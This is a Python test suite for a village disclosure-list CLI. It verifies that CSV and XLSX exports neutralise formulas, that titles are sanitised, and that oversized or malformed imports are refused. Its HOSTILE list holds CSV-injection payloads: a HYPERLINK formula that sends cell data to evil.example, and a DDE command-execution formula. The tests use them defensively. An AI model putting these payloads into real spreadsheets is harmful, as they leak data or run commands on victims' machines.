"""Hostile and mistaken files through the CLI: exports that cannot attack, bounded inputs, clear causes."""

from __future__ import annotations

import csv
import hashlib
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from core.db import make_engine
from tests.conftest import SAMPLE, Cunwu
from tests.helpers import dump_database, read_csv, write_csv
from village_lists.importer import LIST_COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''@twice",
]


def _list_rows() -> list[list[str]]:
    return read_csv(SAMPLE / "village_lists" / "QH03.csv")


def _hostile_list(path: Path) -> Path:
    rows = _list_rows()
    for i, payload in enumerate(HOSTILE, 1):
        rows[i][1] = payload  # 公开事项
        rows[i][5] = payload[:60]  # 责任人
    rows[len(HOSTILE) + 1][2] = "、".join(HOSTILE)  # 公开内容: every element hostile
    return write_csv(path, rows)


def _sha(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture
def sample(cunwu: Cunwu) -> Cunwu:
    cunwu.ok("load-sample")
    return cunwu


def _set_responsible(url: str, seq: int, value: str) -> None:
    """Leading tab and CR cannot come through an import (cells are trimmed): put them in directly."""
    engine = make_engine(url)
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE village_list_rows SET responsible = :v WHERE village_code = 'QH03' AND seq = :s"),
            {"v": value, "s": seq},
        )
    engine.dispose()


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _round_trips(cunwu: Cunwu, url: str, path: Path) -> None:
    before = dump_database(url)
    out = cunwu.ok("village", "import-list", "QH03", str(path)).output
    assert "新增 0，更新 0，删除 0，未变 32" in out, out
    assert dump_database(url) == before


def test_hostile_text_exports_inert_and_round_trips(sample: Cunwu, migrated_url: str, tmp_path: Path) -> None:
    sample.ok("village", "import-list", "QH03", str(_hostile_list(tmp_path / "in.csv")))
    _set_responsible(migrated_url, 20, "\t=1+1")
    xlsx, csv_out = tmp_path / "QH03.xlsx", tmp_path / "QH03.csv"
    sample.ok("village", "export", "QH03", "--format", "xlsx", "-o", str(xlsx))
    sample.ok("village", "export", "QH03", "--format", "csv", "-o", str(csv_out))

    with zipfile.ZipFile(xlsx) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet  # no live formula anywhere
    ws = load_workbook(xlsx).worksheets[0]
    titles = [ws.cell(row=r, column=2) for r in range(2, 2 + len(HOSTILE))]
    assert all(c.data_type == "s" for c in titles)
    # the import read the last two as guarded cells (stored as =already quoted and '@twice)
    assert [c.value for c in titles] == ["'" + p for p in HOSTILE[:5]] + HOSTILE[5:]
    assert ws.cell(row=21, column=6).value == "'\t=1+1"
    cells = _csv_cells(csv_out)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'\t=1+1" in cells
    _round_trips(sample, migrated_url, xlsx)
    _round_trips(sample, migrated_url, csv_out)

    # A lone CR: CSV keeps it (XML, hence XLSX, turns every CR into LF, as Excel's own cells have it)
    _set_responsible(migrated_url, 21, "\r=2")
    sample.ok("village", "export", "QH03", "--format", "csv", "-o", str(csv_out))
    assert "'\r=2" in _csv_cells(csv_out)
    _round_trips(sample, migrated_url, csv_out)


def test_sheet_title_is_sanitised(sample: Cunwu, migrated_url: str, tmp_path: Path) -> None:
    engine = make_engine(migrated_url)
    with engine.begin() as conn:
        conn.execute(text("UPDATE villages SET name = '新/寨[村]:*?' WHERE code = 'QH02'"))
    engine.dispose()
    out = tmp_path / "QH02.xlsx"
    sample.ok("village", "export", "QH02", "--format", "xlsx", "-o", str(out))
    assert load_workbook(out).worksheets[0].title == "QH02新_寨_村____"


def test_export_refuses_the_database_and_foreign_files(sample: Cunwu, migrated_url: str, tmp_path: Path) -> None:
    db_file = migrated_url.removeprefix("sqlite:///")
    if migrated_url.startswith("sqlite"):
        digest = _sha(db_file)
        for force in ((), ("--force",)):
            result = sample("village", "export", "QH03", "--format", "csv", "-o", db_file, *force)
            assert result.exit_code == 1 and "数据库文件" in result.stderr
        assert _sha(db_file) == digest
    notes = tmp_path / "notes.txt"
    notes.write_text("村委会会议记录\n", encoding="utf-8")
    result = sample("village", "export", "QH03", "--format", "csv", "-o", str(notes))
    assert result.exit_code == 1 and "--force" in result.stderr
    assert notes.read_text(encoding="utf-8") == "村委会会议记录\n"
    csv_out = tmp_path / "QH03.csv"
    sample.ok("village", "export", "QH03", "--format", "csv", "-o", str(csv_out))
    sample.ok("village", "export", "QH03", "--format", "csv", "-o", str(csv_out))  # an earlier export: fine
    assert sample("village", "export", "QH03", "--format", "xlsx", "-o", str(csv_out)).exit_code == 1
    html = tmp_path / "QH03.html"
    sample.ok("village", "export", "QH03", "--format", "html", "-o", str(html))
    sample.ok("village", "export", "QH03", "--format", "html", "-o", str(html))
    sample.ok("village", "export", "QH03", "--format", "csv", "-o", str(notes), "--force")
    assert notes.read_text(encoding="utf-8-sig").startswith("序号,")


def _list_workbook(path: Path, rows: list[list[object]]) -> Workbook:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows:
        ws.append(row)
    return wb


def test_xlsx_formula_without_value_and_merged_cell_name_the_cause(sample: Cunwu, tmp_path: Path) -> None:
    rows: list[list[object]] = [list(LIST_COLUMNS), *_list_rows()[1:4]]
    rows[1][1] = "=B3"  # a formula saved without its value (openpyxl stores none)
    path = tmp_path / "QH03.xlsx"
    wb = _list_workbook(path, rows)
    ws = wb.active
    assert ws is not None
    ws.merge_cells("C3:D3")  # 公开内容 merged over 公开时限 in a data row
    wb.save(path)
    result = sample("village", "import-list", "QH03", str(path))
    assert result.exit_code == 1
    assert f"{path}:2: 公开事项: 是公式，但文件里没有保存计算结果" in result.stderr
    assert f"{path}:3: 公开时限: 是合并单元格（C3:D3）的一部分" in result.stderr
    assert "必填项为空" not in result.stderr


def test_mixed_encoding_names_the_line(sample: Cunwu, tmp_path: Path) -> None:
    lines = (SAMPLE / "village_lists" / "QH03.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    data = b"".join(line.encode("gbk" if n == 5 else "utf-8") for n, line in enumerate(lines, 1))
    path = tmp_path / "QH03.csv"
    path.write_bytes(data)
    result = sample("village", "import-list", "QH03", str(path))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"{path}:5: 这一行的编码与文件其余部分（UTF-8）不同")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cells_are_bounded_alike_in_csv_and_xlsx(fmt: str, sample: Cunwu, migrated_url: str, tmp_path: Path) -> None:
    rows = _list_rows()
    rows[3][2] = "要素" * 2_001  # 公开内容: 4,002 characters
    rows[4][1] = "事" * 201  # 公开事项: over the title limit
    rows[5][5] = "人" * 65  # 责任人
    path = tmp_path / f"QH03.{fmt}"
    if fmt == "csv":
        write_csv(path, rows)
    else:
        _list_workbook(path, rows).save(path)  # type: ignore[arg-type]
    before = dump_database(migrated_url)
    result = sample("village", "import-list", "QH03", str(path))
    assert result.exit_code == 1
    assert f"{path}:4: 公开内容: 长度 4,002 字，超过上限 4,000 字" in result.stderr
    assert f"{path}:5: 公开事项: 长度 201 字，超过上限 200 字" in result.stderr
    assert f"{path}:6: 责任人: 长度 65 字，超过上限 64 字" in result.stderr
    assert dump_database(migrated_url) == before


def test_catalog_title_and_huge_cell_are_bounded(sample: Cunwu, tmp_path: Path) -> None:
    rows = read_csv(SAMPLE / "township_catalog.csv")
    rows[2][3] = "标题" * 100 + "长"  # 二级事项: 201 characters
    rows[3][5] = "依据" * 1_000_000  # 公开依据: 2 million characters
    path = write_csv(tmp_path / "catalog.csv", rows)
    result = sample("catalog", "import", str(path))
    assert result.exit_code == 1
    assert f"{path}:3: 二级事项: 长度 201 字，超过上限 200 字" in result.stderr
    assert f"{path}:4: 公开依据: 长度 2,000,000 字，超过上限 4,000 字" in result.stderr


def test_a_title_of_200_characters_fits_on_every_database(sample: Cunwu, tmp_path: Path) -> None:
    rows = read_csv(SAMPLE / "township_catalog.csv")
    code, title = rows[2][0], "标" * 200
    rows[2][3] = title
    path = write_csv(tmp_path / "catalog.csv", rows)
    sample.ok("catalog", "import", str(path))
    assert title in sample.ok("catalog", "show", code).output


def test_files_over_50_mb_or_300000_rows_are_refused(sample: Cunwu, tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    with big.open("wb") as fh:
        fh.truncate(50 * 1024 * 1024 + 1)  # sparse: nothing is read before the size check
    result = sample("catalog", "import", str(big))
    assert result.exit_code == 1 and f"{big}: 文件超过 50 MB" in result.stderr
    many = tmp_path / "many.csv"
    header = ",".join(LIST_COLUMNS) + "\n"
    many.write_text(header + "1,a,b,每月,村公示栏,,,\n" * 300_000, encoding="utf-8")
    result = sample("village", "import-list", "QH03", str(many))
    assert result.exit_code == 1 and f"{many}: 超过 300,000 行" in result.stderr
